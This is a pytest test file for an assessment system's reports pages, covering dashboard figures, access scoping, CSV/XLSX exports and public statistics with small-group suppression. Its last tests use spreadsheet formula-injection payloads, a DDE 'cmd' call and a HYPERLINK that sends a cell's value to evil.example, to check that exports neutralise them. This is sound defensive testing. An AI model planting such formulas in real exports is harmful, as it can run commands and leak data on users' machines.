"""Reports pages: dashboard figures and scoping, exports, skills profile, public statistics."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from app.extensions import db
from assessments.models import Result
from tests.reports.reports_data import build_reports_data

YEAR_2025 = {"kind": "calendar", "year": "2025"}


@pytest.fixture
def data(session):
    return build_reports_data(session)


def figure(html: str, name: str) -> str:
    marker = f'data-figure="{name}">'
    start = html.index(marker) + len(marker)
    return html[start : html.index("<", start)].strip()


def test_dashboard_shows_the_headline_numbers(sign_in, client, data):
    sign_in("admin", lang="en")
    html = client.get("/reports", query_string=YEAR_2025).get_data(as_text=True)
    assert figure(html, "exams") == "3"
    assert figure(html, "sat") == "8"
    assert figure(html, "passed") == "6"
    assert figure(html, "pass_rate") == "75.00 %"
    assert figure(html, "mean") == "55.72 %"  # 55.7175 half up
    assert figure(html, "median") == "55.25 %"
    assert figure(html, "passports_issued") == "6"
    assert figure(html, "passports_revoked") == "1"
    for centre in ("C1", "C2"):
        assert data.centres[centre].code in html
    assert "<svg" in html and "Grade distribution" in html


FALLBACK = None  # bad input: the current calendar year, with a message


@pytest.mark.parametrize(
    ("query", "sat"),
    [
        ({"kind": "academic", "year": "2025"}, "3"),
        ({"kind": "dates", "from": "2025-01-10", "to": "2025-06-15"}, "6"),
        ({"kind": "dates", "from": "2025-06-15", "to": "2025-01-10"}, FALLBACK),
        ({"kind": "dates", "from": "10.01.2025", "to": "15.06.2025"}, "6"),  # typed day first
        ({"kind": "dates", "from": "31.02.2025"}, FALLBACK),
        ({"kind": "nonsense", "year": "abc"}, FALLBACK),
    ],
)
def test_period_chooser(sign_in, client, data, query, sat):
    sign_in("admin", lang="en")
    response = client.get("/reports", query_string=query)
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    if sat is FALLBACK:
        assert 'role="alert"' in html
        this_year = {"kind": "calendar", "year": str(date.today().year)}
        sat = figure(client.get("/reports", query_string=this_year).get_data(as_text=True), "sat")
    assert figure(html, "sat") == sat


def test_dashboard_in_russian_uses_decimal_comma(sign_in, client, data):
    sign_in("admin", lang="en")
    client.get("/language/ru")
    html = client.get("/reports", query_string=YEAR_2025).get_data(as_text=True)
    assert figure(html, "mean") == "55,72 %"


def test_centre_manager_sees_only_their_centre(sign_in, client, data):
    sign_in("centre_manager", centre_id=data.centres["C2"].id, lang="en")
    html = client.get("/reports", query_string=YEAR_2025).get_data(as_text=True)
    assert figure(html, "sat") == "3"
    assert figure(html, "passports_issued") == "2"
    assert data.centres["C2"].code in html
    assert data.centres["C1"].code not in html
    body = client.get("/reports/export/centre.csv", query_string=YEAR_2025).get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(body)))
    assert [r[0] for r in rows[1:]] == [data.centres["C2"].code]


def test_manager_without_a_centre_sees_nothing(sign_in, client, data):
    sign_in("centre_manager", lang="en")
    html = client.get("/reports", query_string=YEAR_2025).get_data(as_text=True)
    assert figure(html, "sat") == "0"


def test_csv_and_xlsx_exports_match(sign_in, client, data):
    sign_in("admin", lang="en")
    body = client.get("/reports/export/competence.csv", query_string=YEAR_2025)
    assert body.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(body.get_data(as_text=True))))
    k1, k2 = data.competences["K1"].code, data.competences["K2"].code
    assert rows[0] == [
        "code",
        "name",
        "sat",
        "passed",
        "pass_rate_percent",
        "mean_percent",
        "median_percent",
    ]
    by_code = {r[0]: r[2:] for r in rows[1:]}
    assert by_code == {
        k1: ["6", "4", "66.67", "52.63", "55.25"],
        k2: ["2", "2", "100.00", "65.00", "65.00"],  # 64.995 half up
    }
    response = client.get("/reports/export/competence.xlsx", query_string=YEAR_2025)
    sheet = load_workbook(io.BytesIO(response.data)).active
    values = list(sheet.iter_rows(values_only=True))
    assert list(values[0]) == rows[0]
    xlsx = {r[0]: [r[2], r[3], Decimal(str(r[4])), Decimal(str(r[5]))] for r in values[1:]}
    assert xlsx[k1] == [6, 4, Decimal("66.67"), Decimal("52.63")]
    assert xlsx[k2] == [2, 2, Decimal("100"), Decimal("65")]
    grades = client.get("/reports/export/grades.csv", query_string=YEAR_2025)
    assert grades.get_data(as_text=True).split("\r\n")[1:5] == ["5,3", "4,2", "3,1", "2,2"]


@pytest.mark.parametrize("path", ["/reports/export/candidates.csv", "/reports/export/centre.pdf"])
def test_unknown_export_is_not_found(sign_in, client, data, path):
    sign_in("admin", lang="en")
    assert client.get(path).status_code == 404


def test_skills_profile_means(sign_in, client, session, data):
    """Two K2 results in 2025 with chosen sections; the means are worked out by hand."""
    sign_in("admin", lang="en")
    e, f = data.candidates["e"], data.candidates["f"]
    marks = {  # marks per WSOS section (maxima 10, 30, 20, 40; A = 1 + 2, B = 3 + 4)
        e.id: {"1": 5, "2": 30, "3": 0, "4": 40},
        f.id: {"1": 10, "2": 10, "3": 20, "4": 0},
    }
    for result in session.query(Result).filter(Result.candidate_id.in_(marks)):
        sections = {k: v * 900 for k, v in marks[result.candidate_id].items()}
        result.by_section = sections
        result.by_criterion = {
            "A": sections["1"] + sections["2"],
            "B": sections["3"] + sections["4"],
        }
    db.session.flush()
    competence = data.competences["K2"]
    html = client.get(
        "/reports/profile", query_string={**YEAR_2025, "competence": competence.id}
    ).get_data(as_text=True)
    assert "Candidates with a result: 2" in html
    for text in (
        "1. Section 1: 7.50 of 10.00",
        "2. Section 2: 20.00 of 30.00",
        "3. Section 3: 10.00 of 20.00",
        "4. Section 4: 20.00 of 40.00",
        "A. Веб-сайт дизайны: 27.50 of 40.00",
        "B. Серверлік бағдарламалау: 30.00 of 60.00",
    ):
        assert text in html, text


def test_skills_profile_without_results_or_with_a_bad_choice(sign_in, client, data):
    sign_in("admin", lang="en")
    competence = data.competences["K2"]
    html = client.get(
        "/reports/profile",
        query_string={"kind": "calendar", "year": "2031", "competence": competence.id},
    ).get_data(as_text=True)
    assert "No results in this period." in html
    response = client.get("/reports/profile", query_string={"competence": "999999"})
    assert response.status_code == 200 and "choose one from the list" in response.get_data(
        as_text=True
    )


def test_public_page_suppresses_small_groups(client, data):
    html = client.get("/stats?lang=en").get_data(as_text=True)
    assert "fewer than 5" in html
    c1, c2 = data.centres["C1"], data.centres["C2"]
    assert c1.code in html and c2.code in html
    c2_row = html[html.index(f"{c2.code} — ") :]
    c2_row = c2_row[: c2_row.index("</tr>")]
    assert "fewer than 5" in c2_row and '<td class="num">' not in c2_row
    for candidate in data.candidates.values():
        assert candidate.last_name + " " + candidate.first_name not in html


def test_public_json_and_csv_carry_the_same_suppression(client, data):
    body = client.get("/api/v1/stats").get_json()
    assert body["small_group_threshold"] == 5
    years = {item["year"]: item for item in body["years"]}
    assert years[2025] == {
        "year": 2025,
        "suppressed": False,
        "suppression": "",
        "sat": 8,
        "passed": 6,
        "pass_rate_percent": "75.00",
        "mean_percent": "55.72",
    }
    assert years[2024] == {
        "year": 2024,
        "suppressed": True,
        "suppression": "small_group",
        "sat": None,
        "passed": None,
        "pass_rate_percent": None,
        "mean_percent": None,
    }
    centres = {(i["year"], i["code"]): i for i in body["centres"]}
    assert centres[(2025, data.centres["C2"].code)]["sat"] is None
    assert centres[(2025, data.centres["C1"].code)]["suppression"] == "complementary"
    assert centres[(2025, data.centres["C1"].code)]["sat"] is None
    rows = list(csv.DictReader(io.StringIO(client.get("/stats.csv").get_data(as_text=True))))
    by_key = {(r["table"], r["year"], r["code"]): r for r in rows}
    assert by_key[("years", "2025", "")]["sat"] == "8"
    suppressed = by_key[("centres", "2025", data.centres["C2"].code)]
    assert suppressed["suppressed"] == "true" and suppressed["sat"] == ""


@pytest.mark.parametrize(
    ("query", "cli"),
    [
        (YEAR_2025, ["--from", "2025-01-01", "--to", "2025-12-31"]),
        ({"kind": "academic", "year": "2024"}, ["--from", "2024-09-01", "--to", "2025-08-31"]),
        ({"kind": "dates", "from": "2025-06-15", "to": "2026-01-01"}, ["--from", "2025-06-15"]),
    ],
)
def test_cli_summary_equals_the_dashboard(sign_in, app, client, data, query, cli):
    sign_in("admin", lang="en")
    html = client.get("/reports", query_string=query).get_data(as_text=True)
    result = app.test_cli_runner().invoke(args=["reports", "summary", *cli, "--json"])
    figures = json.loads(result.output)
    for name in ("exams", "sat", "passed", "passports_issued", "passports_revoked"):
        assert figure(html, name) == str(figures[name]), name
    rate = Decimal(str(figures["pass_rate"] * 100)).quantize(Decimal("0.01"))
    assert figure(html, "pass_rate") == f"{rate} %"


CALC = '=cmd|"/c calc"!A1'
LINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def _name(obj, text):
    obj.name_kk = obj.name_ru = obj.name_en = text


def test_public_stats_csv_never_carries_a_live_formula(client, data, session):
    for centre in data.centres.values():
        _name(centre, CALC)
    session.flush()
    rows = list(csv.DictReader(io.StringIO(client.get("/stats.csv").get_data(as_text=True))))
    names = {r["name"] for r in rows if r["table"] == "centres"}
    assert names == {"'" + CALC}


def test_report_exports_write_names_as_text(sign_in, client, data, session):
    for competence in data.competences.values():
        _name(competence, LINK)
    session.flush()
    sign_in("admin", lang="en")
    body = client.get("/reports/export/competence.csv", query_string=YEAR_2025)
    rows = list(csv.reader(io.StringIO(body.get_data(as_text=True))))
    assert {r[1] for r in rows[1:]} == {"'" + LINK}
    response = client.get("/reports/export/competence.xlsx", query_string=YEAR_2025)
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert {(c.value, c.data_type) for c in cells} == {(LINK, "s")}
    assert {type(row[2].value) for row in sheet.iter_rows(min_row=2)} == {int}  # sat: a number
